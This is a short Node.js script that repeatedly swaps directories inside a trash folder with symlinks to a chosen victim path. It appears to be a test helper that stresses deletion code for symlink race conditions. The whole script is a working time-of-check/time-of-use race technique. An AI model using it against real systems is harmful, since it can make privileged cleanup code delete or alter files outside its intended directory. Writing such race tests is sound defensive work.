// Exchanges every directory that appears in the trash with a link to a victim and back, over and over, until it is stopped.
import { readdirSync, renameSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

const [trash, victim] = process.argv.slice(2);
let exchanges = 0;

function attempt(work) {
  try {
    return work();
  } catch {
    return undefined;
  }
}

const FLIPS = 20;

/** A link in the place of the directory for a moment, and the directory again. */
function flip(path) {
  renameSync(path, `${path}~`);
  symlinkSync(victim, path);
  unlinkSync(path);
  renameSync(`${path}~`, path);
  exchanges += 1;
}

process.send('ready');
for (;;) {
  for (const name of attempt(() => readdirSync(trash)) ?? []) {
    const place = join(trash, name);
    for (const inner of attempt(() => readdirSync(place)) ?? [])
      if (!inner.endsWith('~'))
        attempt(() => {
          for (let turn = 0; turn < FLIPS; turn += 1) flip(join(place, inner));
        });
    writeFileSync(join(dirname(dirname(dirname(trash))), 'exchanges'), `${exchanges}`);
  }
}
